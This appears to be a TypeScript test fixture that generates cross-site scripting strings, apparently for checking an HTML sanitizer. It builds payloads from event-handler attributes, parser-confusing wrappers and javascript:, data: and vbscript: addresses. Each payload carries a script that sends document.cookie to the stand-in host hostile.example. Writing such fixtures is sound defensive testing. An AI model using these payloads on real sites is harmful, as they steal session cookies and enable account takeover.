/** The host that every hostile text tries to reach. The product never uses it. */
export const hostileHost = 'hostile.example'

const code = `window.hostileRan=1;fetch('https://${hostileHost}/'+document.cookie)`

const elements = [
  'img src=x', `img src=https://${hostileHost}/a.png`, 'svg', 'body', 'html', 'iframe src=x', 'video src=x', 'audio src=x',
  'input autofocus', 'details open', 'marquee', 'object data=x', 'embed src=x', 'select autofocus',
  'textarea autofocus', 'p tabindex=0', 'strong', 'ol', 'li', 'math', 'br', 'u', 'sub', 'a href=#',
] // biome-ignore format: one list, read as one

const handlers = [
  'onload',
  'onerror',
  'onfocus',
  'onmouseover',
  'onclick',
  'ontoggle',
  'ONERROR',
  'on\terror',
]

/** Elements that parsers interpret differently. */
const wrappers: ((inner: string) => string)[] = [
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<title>${inner}</title>`,
  (inner) => `<textarea></textarea>${inner}`,
  (inner) => `<style><!--</style>${inner}-->`,
  (inner) => `<xmp>${inner}</xmp>`,
  (inner) => `<noembed>${inner}</noembed>`,
  (inner) => `<iframe srcdoc="${inner.replaceAll('"', '&quot;')}"></iframe>`,
  (inner) => `<plaintext>${inner}`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<svg><style>${inner}</style></svg>`,
  (inner) => `<svg><foreignObject><p>${inner}</p></foreignObject></svg>`,
  (inner) => `<table><td>${inner}`,
  (inner) => `<select><option>${inner}</select>`,
  (inner) => `<form><form>${inner}`,
  (inner) => `<!-- --!>${inner}`,
  (inner) => `<![CDATA[${inner}]]>`,
  (inner) => `<p style="x:</style>${inner}">`,
  (inner) => `&lt;p&gt;${inner}`,
  (inner) => `<ol><li data-list="bullet${inner}">x</li></ol>`,
  (inner) => `<<p>${inner}`,
  (inner) => `<p/${inner}`,
]
const payloads = [
  `<script>${code}</script>`,
  `<img src=x onerror="${code}">`,
  `<svg/onload="${code}">`,
  `"><img src=x onerror=${code}>`,
]

const addresses = [
  `javascript:${code}`, `JaVaScRiPt:${code}`, `java\tscript:${code}`, `&#106;avascript:${code}`,
  `data:text/html,<script>${code}</script>`, `vbscript:${code}`, `//${hostileHost}/x`,
] // biome-ignore format: one list, read as one
const addressElements = [
  (address: string) => `<a href="${address}">a</a>`,
  (address: string) => `<svg><a xlink:href="${address}"><text>a</text></a></svg>`,
  (address: string) => `<form action="${address}"><button>a</button></form>`,
  (address: string) => `<p style="background:url(${address})">a</p>`,
  (address: string) => `<link rel="stylesheet" href="${address}">a`,
  (address: string) => `<meta http-equiv="refresh" content="0;url=${address}">a`,
  (address: string) => `<base href="${address}">a`,
  (address: string) => `<object data="${address}"></object>a`,
]

/** Lists texts that try to run code or to send data when a page shows them. */
export function listHostileTexts(): string[] {
  return [
    ...elements.flatMap((element) =>
      handlers.map((handler) => `<${element} ${handler}="${code}">a`),
    ),
    ...wrappers.flatMap((wrap) => payloads.map(wrap)),
    ...addressElements.flatMap((create) => addresses.map(create)),
  ]
}
